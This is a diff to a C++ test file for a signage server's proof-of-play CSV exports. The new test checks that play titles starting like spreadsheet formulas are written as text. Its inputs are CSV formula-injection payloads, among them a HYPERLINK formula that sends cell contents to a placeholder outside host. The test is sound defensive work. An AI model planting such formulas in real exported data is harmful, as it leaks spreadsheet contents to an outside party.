@@ -1,11 +1,12 @@
 // Proof of play: screens post their plays; staff read compliance reports
 // per screen or group and local day, as JSON and as CSV for inspectors.
 
-#include <csv.h>
+#include <algorithm>
 
 #include <catch2/catch.hpp>
 #include <nlohmann/json.hpp>
 
+#include "common/csv.hpp"
 #include "server_test_helpers.hpp"
 
 using namespace signage::test;
@@ -52,29 +53,6 @@ json small_day() {
           play("boot0001-6", "boot0001-L0", "1", true, "2026-11-27T15:59:59.000Z", 1000),
           play("boot0001-8", "boot0001-L4", "1", true, "2026-11-28T16:00:00.000Z", 1000),
           emergency}}};
-}
-
-struct CsvRows {
-    std::vector<std::vector<std::string>> rows;
-    std::vector<std::string> row;
-};
-
-std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
-    csv_parser p;
-    REQUIRE(csv_init(&p, CSV_STRICT) == 0);
-    CsvRows out;
-    auto on_field = [](void* data, size_t n, void* self) {
-        static_cast<CsvRows*>(self)->row.emplace_back(static_cast<const char*>(data), n);
-    };
-    auto on_row = [](int, void* self) {
-        auto* r = static_cast<CsvRows*>(self);
-        r->rows.push_back(std::move(r->row));
-        r->row.clear();
-    };
-    REQUIRE(csv_parse(&p, text.data(), text.size(), on_field, on_row, &out) == text.size());
-    csv_fini(&p, on_field, on_row, &out);
-    csv_free(&p);
-    return out.rows;
 }
 
 }  // namespace
@@ -292,4 +270,62 @@ TEST_CASE("Plays: the CSV export has a byte order mark, bilingual headers and th
     rows = parse_csv(items.body.substr(3));
     REQUIRE(rows.size() == 4);
     CHECK(rows[3][1] == "暴雨红色预警");
+}
+
+TEST_CASE("Plays: a title a spreadsheet would run as a formula is written as text",
+          "[server][plays][csv]") {
+    Staff staff;
+    HttpClient gate = staff.server.client(staff.server.add_screen("gate", "town"));
+    // Titles come from the screen: every start Excel, LibreOffice or WPS evaluates.
+    const std::vector<std::string> titles = {"=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
+                                             "+1+1",
+                                             "-2+3",
+                                             "@SUM(A1:A9)",
+                                             "\t=1+1",
+                                             "\r=1+1",
+                                             "\xEF\xBC\x9D"
+                                             "1+1",  // ＝
+                                             "\xEF\xBC\x8B"
+                                             "1",  // ＋
+                                             "\xEF\xBC\x8D"
+                                             "1",  // －
+                                             "\xEF\xBC\xA0"
+                                             "SUM",  // ＠
+                                             "'=already quoted",
+                                             "普通标题"};
+    json batch = {{"plays", json::array()}};
+    for (std::size_t i = 0; i < titles.size(); ++i) {
+        json p =
+            play("boot0002-" + std::to_string(i), "boot0002-L1", std::to_string(i + 1), false,
+                 "2026-11-28T00:" + std::string(i < 10 ? "0" : "") + std::to_string(i) + ":00.000Z",
+                 5000);
+        p["title"] = titles[i];
+        batch["plays"].push_back(p);
+    }
+    auto posted = gate.post("/api/v1/player/plays", batch);
+    INFO(posted.body);
+    REQUIRE(posted.status == 200);
+    const std::string base =
+        "/api/v1/reports/plays?screen=" + staff.screen_id("gate") + "&from=2026-11-28&format=csv";
+
+    for (const std::string table : {"plays", "items"}) {
+        auto res = staff.editor.get(base + "&table=" + table);
+        REQUIRE(res.status == 200);
+        const auto rows = parse_csv(res.body.substr(3));
+        const std::size_t title_col = table == "plays" ? 8 : 1;
+        std::vector<std::string> seen;
+        for (std::size_t r = 1; r < rows.size(); ++r) {
+            const std::string& cell = rows[r].at(title_col);
+            INFO(table << " row " << r << ": " << cell);
+            // The apostrophe in front makes the spreadsheet show the text.
+            CHECK_FALSE(signage::csv::starts_like_formula(cell));
+            seen.emplace_back(signage::csv::strip_formula_guard(cell));
+            // Numbers stay numbers: the duration column is not guarded.
+            if (table == "plays") CHECK(rows[r].at(5) == "5000");
+        }
+        std::sort(seen.begin(), seen.end());
+        std::vector<std::string> want = titles;
+        std::sort(want.begin(), want.end());
+        CHECK(seen == want);
+    }
 }
